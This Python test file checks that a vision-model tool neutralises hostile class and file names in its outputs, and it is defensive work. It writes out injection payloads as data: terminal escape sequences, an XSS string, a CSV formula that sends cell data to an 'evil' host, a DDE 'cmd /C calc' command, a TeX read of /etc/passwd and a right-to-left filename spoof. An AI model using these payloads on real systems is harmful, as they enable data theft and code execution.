"""Hostile names of files and classes, as commands and files show them."""

import contextlib
import csv
import io
import os
import pathlib
import tempfile
from xml.etree import ElementTree

import huggingface_hub
import numpy as np
import tiny_models
from hostile import Hostile
from PIL import Image

from vit_jax_repro import command_line, predict
from vit_jax_repro.analysis import confusion, pictures
from vit_jax_repro.inference import prediction, prediction_files
from vit_jax_repro.output import files, messages, reports, sections
from vit_jax_repro.ports import converting, hub_card

# Clears the screen, sets the title of the window, moves the cursor up.
ESCAPES = '\x1b[2J\x1b]0;owned\x07\r\x1b[Acat'
_BYTES = os.fsdecode(b'caf\xe9')  # Latin 1
_HTML = '<img src=x onerror=alert(1)>'
_YAML = 'cat\n---\nlicense: mit\nlibrary_name: evil\n# '
_FORMULA = '=HYPERLINK("http://evil/?"&A1)'


def _printed(function):
  """Returns a function that returns what `function` prints, on one line."""

  def run(made):
    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
      function(made)
    text = out.getvalue().replace('\n', ' ')
    assert text.isprintable(), text
    return text

  return run


def _name(name):
  return lambda folder: name


def _table(name):
  reports.table(('label', 'class'), [('1', name)])
  reports.pairs({name: name})
  reports.terminal(
    [sections.Section(name, (name,), ('a', 'b'), ((name, name),))]
  )


def _failed(name):
  with contextlib.suppress(SystemExit):
    command_line.fail('predict', f'no image {name}', 1)


def _prediction(name):
  predict.show(prediction.Prediction(name, ((0, name, 0.5),)))


def _ascii(name):
  """Prints a name on a terminal that knows only ASCII."""
  out = io.TextIOWrapper(io.BytesIO(), 'ascii')
  with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
    command_line.replace_unencodable()
    _prediction(name)
    messages.note(name)
    print(name)
    out.flush()
  return out.buffer.getvalue().decode('ascii').replace('\n', ' ')


def _cells(made):
  """Returns the cells of a CSV file of predictions."""
  folder, name = made
  path = folder / 'out.csv'
  with prediction_files.writing({'csv': path}) as write:
    write(prediction.Prediction(name, ((0, name, 0.5),)))
  with open(path, encoding='utf-8', errors='surrogateescape') as file:
    cells = [cell for row in csv.reader(file) for cell in row]
  path.unlink()
  return ' '.join(cells)


def _with(name):
  return lambda folder: (folder, name)


def _card(name):
  """Converts a run whose classes and data set have a name; returns README.md.

  Its metadata must be that of a card without such names.
  """
  with tempfile.TemporaryDirectory() as folder:
    run = os.path.join(folder, 'run')
    os.mkdir(run)
    tiny_models.save_run(
      pathlib.Path(run) / 'model.npz', class_names=(name, 'b', 'c')
    )
    for file, value in {
      'manifest.json': {},
      'config.json': {'dataset': name, 'pp': {'test': name}},
      'result.json': {'accuracy': 0.5},
    }.items():
      files.write_json(os.path.join(run, file), value)
    out = os.path.join(folder, 'port')
    converting.convert(
      os.path.join(run, 'model.npz'), out, to='transformers', overwrite=False
    )
    text = pathlib.Path(out, hub_card.FILE).read_text(encoding='utf-8')
    metadata = huggingface_hub.ModelCard(text).data
  assert metadata.license == 'unknown', metadata
  assert metadata.library_name == 'transformers', metadata
  body = text.split('\n---\n', 1)[1]
  assert '<' not in body.replace(r'\<', ''), body
  return body.replace('\n', ' ')


def _figure(name):
  """Draws a name; returns the texts in the SVG file."""
  with tempfile.TemporaryDirectory() as folder:
    path = os.path.join(folder, 'figure.svg')
    figure = pictures.new(3, 2)
    figure.suptitle(pictures.escape_mathtext(name))
    pictures.save(figure, path)
    with open(path, encoding='utf-8') as file:
      found = ElementTree.parse(file).getroot()
    written = pathlib.Path(path).read_text(encoding='utf-8')
  assert '<img' not in written and '<script' not in written
  return found.tag


def _matrix(name):
  """Draws a confusion matrix whose classes have a name."""
  with tempfile.TemporaryDirectory() as folder:
    path = os.path.join(folder, 'matrix.png')
    confusion.write(path, np.ones((2, 4), int), (name, 'b', 'c', 'd'))
    with Image.open(path) as drawn:
      return drawn.format


def _markdown(name):
  text = sections.markdown(
    [sections.Section(name, (name,), ('a',), ((name,),))]
  )
  assert '<img' not in text, text
  return text.replace('\n', ' ')


def _is(name, made, opens, shows):
  return Hostile(name, made, opens, shows, refused=False)


_SHOWN = r'\x1b[2J\x1b]0;owned\x07\r\x1b[Acat'
CASES = (
  _is('escapes in a note', _name(ESCAPES), _printed(messages.note), _SHOWN),
  _is(
    'escapes in the line of an error',
    _name(ESCAPES),
    _printed(_failed),
    r'\x1b[2J\x1b]0;owned\x07',
  ),
  _is('escapes in tables', _name(ESCAPES), _printed(_table), r'\x1b[2J'),
  _is(
    'escapes in the names of an image and a class',
    _name(ESCAPES),
    _printed(_prediction),
    _SHOWN,
  ),
  _is(
    'line break that forges a note',
    _name('cat\nnote: all is well'),
    _printed(messages.note),
    r'cat\nnote: all',
  ),
  _is(
    'right-to-left override that hides an ending',
    _name('cat\u202egpj.exe'),
    _printed(_prediction),
    r'cat\u202egpj.exe',
  ),
  _is(
    'bytes that are not UTF-8, on an ASCII terminal',
    _name(_BYTES),
    _ascii,
    r'caf\udce9',
  ),
  _is(
    'letters that an ASCII terminal lacks', _name('chat 猫'), _ascii, r'\u732b'
  ),
  _is('formula in a CSV file', _with(_FORMULA), _cells, f"'{_FORMULA}"),
  _is(
    'command in a CSV file',
    _with("@SUM(1)*cmd|' /C calc'!A0"),
    _cells,
    "'@SUM(1)*cmd|",
  ),
  _is('number in a CSV file stays', _with('-1.5'), _cells, ' -1.5 '),
  _is('metadata in the name of a class', _name(_YAML), _card, 'license: mit'),
  _is('HTML in the name of a class', _name(_HTML), _card, r'\<img'),
  _is('escapes in a model card', _name(ESCAPES), _card, r'?\[2J'),
  _is('HTML in a report', _name(_HTML), _markdown, '&lt;img'),
  _is('HTML and escapes in a figure', _name(_HTML + ESCAPES), _figure, 'svg'),
  _is(
    'formula of TeX in a figure',
    _name(r'$\input{/etc/passwd}$'),
    _figure,
    'svg',
  ),
  _is('escapes in a confusion matrix', _name(ESCAPES), _matrix, 'PNG'),
)
